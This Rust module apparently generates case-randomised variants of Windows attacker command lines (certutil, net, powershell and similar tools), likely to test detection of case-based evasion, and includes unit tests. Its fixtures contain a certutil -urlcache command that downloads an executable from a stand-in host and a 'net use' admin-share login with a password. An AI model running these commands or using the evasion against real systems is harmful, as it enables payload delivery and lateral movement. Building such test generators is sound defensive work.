//! Command-line case: attackers type `CeRtUtIl -URLCACHE` because Windows
//! resolves file names and these tools parse their switches without regard to
//! case. Only the program's file name and switch names change: switch values
//! (passwords, URLs, script text) may be case-sensitive and stay as written.

use super::cmdline::{powershell_script_switch, split_args, switch_name};
use crate::plan::rng::Rng;

/// Tools whose switch names are case-insensitive.
const CASE_INSENSITIVE_SWITCHES: [&str; 16] = [
    "certutil",
    "cmd",
    "reg",
    "schtasks",
    "whoami",
    "ipconfig",
    "net",
    "net1",
    "tasklist",
    "taskkill",
    "msiexec",
    "regsvr32",
    "wmic",
    "findstr",
    "powershell",
    "pwsh",
];

/// Programs Windows itself starts (a logon chain, COM, services): their
/// command lines are written by the system, not typed by the attacker.
const SYSTEM_STARTED: [&str; 10] = [
    "explorer",
    "userinit",
    "winlogon",
    "services",
    "svchost",
    "wmiprvse",
    "dllhost",
    "conhost",
    "taskhostw",
    "runtimebroker",
];

/// How a stretch of letters is re-cased.
#[derive(Clone, Copy)]
enum Style {
    Upper,
    Lower,
    Alternating,
}

pub fn apply(tool: &str, line: &str, rng: &mut Rng) -> Option<String> {
    if SYSTEM_STARTED.contains(&tool) {
        return None;
    }
    let style = *rng.pick(&[Style::Upper, Style::Lower, Style::Alternating]);
    let args = split_args(line);
    let mut out = line.to_string();
    let mut recase = |range: std::ops::Range<usize>| {
        let changed = restyle(&line[range.clone()], style);
        out.replace_range(range, &changed);
    };
    // The program's file name: after the last backslash, inside any quotes.
    if let Some(first) = args.first() {
        let text = &line[first.clone()];
        let name_start = first.start + text.rfind('\\').map_or(0, |i| i + 1);
        let name_end = first.end - usize::from(text.ends_with('"') && text.len() > 1);
        let name_start = name_start + usize::from(line[name_start..].starts_with('"'));
        if name_start < name_end {
            recase(name_start..name_end);
        }
    }
    if CASE_INSENSITIVE_SWITCHES.contains(&tool) {
        // PowerShell's script text is PowerShell's to parse: stop at its switch.
        let last = match tool {
            "powershell" | "pwsh" => powershell_script_switch(line, &args).unwrap_or(args.len()),
            _ => args.len().saturating_sub(1),
        };
        for r in args.iter().take(last + 1).skip(1) {
            if let Some(name) = switch_name(&line[r.clone()]) {
                recase(r.start + 1..r.start + 1 + name.len());
            }
        }
    }
    (out != line).then_some(out)
}

fn restyle(text: &str, style: Style) -> String {
    match style {
        Style::Upper => text.to_ascii_uppercase(),
        Style::Lower => text.to_ascii_lowercase(),
        Style::Alternating => text
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn variants(tool: &str, line: &str) -> Vec<String> {
        (0..24)
            .filter_map(|n| apply(tool, line, &mut Rng::derive(n, "case")))
            .collect()
    }

    #[test]
    fn only_file_name_and_switch_names_change_case() {
        let line = r#""C:\Windows\system32\certutil.exe" -urlcache -f http://x.test/A.b C:\Users\Public\A.exe"#;
        let all = variants("certutil", line);
        assert!(
            all.iter()
                .any(|v| v.contains("CERTUTIL.EXE") && v.contains("-URLCACHE"))
        );
        for v in &all {
            assert_eq!(v.to_ascii_lowercase(), line.to_ascii_lowercase(), "{v}");
            assert!(v.starts_with(r#""C:\Windows\system32\"#), "{v}");
            assert!(
                v.ends_with(r" http://x.test/A.b C:\Users\Public\A.exe"),
                "{v}"
            );
        }
    }

    #[test]
    fn switch_values_and_powershell_scripts_keep_their_case() {
        let line = r#"net use \\h\C$ /user:NORTHWIND\bob "Sp1ng""#;
        for v in variants("net", line) {
            assert!(v.ends_with(r#":NORTHWIND\bob "Sp1ng""#), "{v}");
        }
        let ps = r#"powershell.exe -NoP -C "Get-Item -Path X""#;
        for v in variants("powershell", ps) {
            assert!(v.ends_with(r#" "Get-Item -Path X""#), "{v}");
        }
    }

    #[test]
    fn unknown_tools_keep_switch_case() {
        let line = r"C:\Tools\PsExec64.exe -s -d x";
        for v in variants("psexec64", line) {
            assert!(v.ends_with(" -s -d x"), "{v}");
        }
    }

    #[test]
    fn lines_windows_writes_are_not_changed() {
        assert!(variants("explorer", r"C:\Windows\Explorer.EXE").is_empty());
    }

    #[test]
    fn deterministic() {
        let line = "whoami /all";
        assert_eq!(variants("whoami", line), variants("whoami", line));
    }
}
